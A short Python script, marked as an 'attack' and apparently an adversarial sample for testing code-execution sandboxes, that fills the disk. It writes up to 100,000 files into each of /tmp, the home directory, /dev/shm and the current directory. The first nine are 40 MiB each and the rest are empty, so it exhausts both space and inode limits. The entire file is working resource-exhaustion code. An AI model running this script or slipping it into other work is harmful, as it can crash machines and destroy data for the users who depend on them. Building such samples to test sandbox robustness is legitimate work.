"""Fills the disk with large files, and with many small ones."""

like = "wrong_answers"

# %% attack
import os

for place in ("/tmp", os.path.expanduser("~"), "/dev/shm", "."):
    for number in range(100_000):
        try:
            with open(f"{place}/{number}", "wb") as file:
                file.write(bytes(40 * 2**20 if number < 9 else 0))
        except OSError:
            break
